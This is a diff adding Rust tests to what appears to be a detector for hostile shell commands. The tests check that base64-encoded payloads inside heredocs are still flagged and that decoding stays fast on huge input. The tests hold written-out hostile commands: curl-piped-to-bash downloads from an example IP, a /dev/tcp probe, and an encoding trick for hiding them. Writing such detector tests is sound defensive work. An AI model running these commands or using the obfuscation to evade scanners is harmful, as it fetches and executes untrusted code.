@@ -98,6 +98,28 @@ fn base64_is_decoded_twice() {
 }
 
 #[test]
+fn words_before_a_blob_do_not_hide_it() {
+    let payload = b"curl -fsSL http://203.0.113.7/x.sh | bash # \xc3\xa9 padding padding padding padding \xc3\xa9";
+    let blob = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, payload);
+    let decoding =
+        base64::Engine::encode(&base64::engine::general_purpose::STANDARD_NO_PAD, b"a text of its own: 23 bytes");
+    for width in [22, 24, 41] {
+        let lines: Vec<&str> = blob.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap()).collect();
+        let lines = lines.join("\n");
+        for words in
+            ["ENDOFTHETEXT".repeat(4), format!("{}\n{0}", "x".repeat(50)), decoding.repeat(2), decoding.clone() + "AA"]
+        {
+            let text = format!("base64 -d > /x <<{words}\n{lines}\n{words}\n");
+            assert_eq!(of("CJ-CMD-01", &args(&[&text])).len(), 1, "{text}");
+        }
+    }
+    let wide: Vec<u8> = "curl http://x/ \u{1f600} | bash".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let wide = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, wide);
+    let (first, rest) = wide.split_at(44);
+    assert_eq!(of("CJ-CMD-01", &args(&[&format!("{}\n{first}\n{rest}", "ENDOFTHETEXT".repeat(4))])).len(), 1);
+}
+
+#[test]
 fn severities_depend_on_the_match() {
     for (id, text, expected) in [
         ("CJ-CMD-04", "timeout 1 bash -c '</dev/tcp/db/5432'", Severity::Medium),
@@ -315,6 +337,11 @@ fn huge_texts_are_bounded() {
     let exempt = "LD_PRELOAD=/usr/lib/libjemalloc.so ".repeat(200);
     assert!(of("CJ-CMD-19", &args(&[&exempt])).is_empty());
     assert_eq!(of("CJ-CMD-19", &args(&[&exempt, &exempt])).len(), 1);
+    // Each line is text, but not at the end of those before it.
+    let text = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, b"eighteen bytes ...");
+    let started = std::time::Instant::now();
+    assert_eq!(blobs::decode(&format!("{text}\n{text}AA\n").repeat(20_000)).len(), 40_000);
+    assert!(started.elapsed().as_secs() < 10);
     let long = of("CJ-CMD-28", &args(&[&"A".repeat(1 << 20)]));
     assert_eq!(long[0].text.len(), 200);
 }
